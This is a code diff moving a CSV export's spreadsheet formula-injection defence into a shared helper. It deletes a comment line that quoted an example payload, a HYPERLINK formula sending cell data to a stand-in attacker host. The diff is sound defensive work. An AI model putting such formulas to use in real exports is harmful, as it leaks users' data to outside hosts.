@@ -9,6 +9,7 @@ import { to as copyTo } from 'pg-copy-streams';
 import type { Principal } from '../../auth/principal.js';
 import { Contact, ContactList } from '../../db/entities/index.js';
 import type { Pool } from '../../db/sql.js';
+import { spreadsheetSafeSql } from '../../lib/csv.js';
 import { ValidationError } from '../../lib/errors.js';
 import { assertNotUsedByActiveCampaign } from '../campaigns/campaign-usage.js';
 import { keysetPage, newestFirstPage } from '../keyset-cursor.js';
@@ -41,13 +42,12 @@ function decodeCursor(cursor: string): number {
 
 /**
  * The `raw` cell of the invalid-lines CSV, safe to open in a spreadsheet (F24): a cell that
- * starts with `=` `+` `-` `@`, a tab or a CR is a formula to Excel and LibreOffice
- * (`=HYPERLINK("https://evil.example/?"&A1,"Fix")` from a CRM export), so it gets a leading
- * `'`, which makes it text. Only `raw` is the uploader's text; `line` and `reason` are ours.
+ * starts with `=` `+` `-` `@`, a tab or a CR is a formula to Excel and LibreOffice, so it
+ * gets a leading `'`, which makes it text (lib/csv.ts: the rule every CSV export shares). Only `raw` is the uploader's text; `line` and `reason` are ours.
  * An invalid `+…` number thus reads `'+…`: the export is for people, the stored line and the
  * JSON `invalidSample` keep the text exactly as uploaded.
  */
-const SPREADSHEET_SAFE_RAW = `CASE WHEN left(raw, 1) IN ('=', '+', '-', '@', chr(9), chr(13)) THEN '''' || raw ELSE raw END`;
+const SPREADSHEET_SAFE_RAW = spreadsheetSafeSql('raw');
 
 /** Passes bytes through until more than `max` went by, then fails. */
 function byteCap(max: number): Transform {
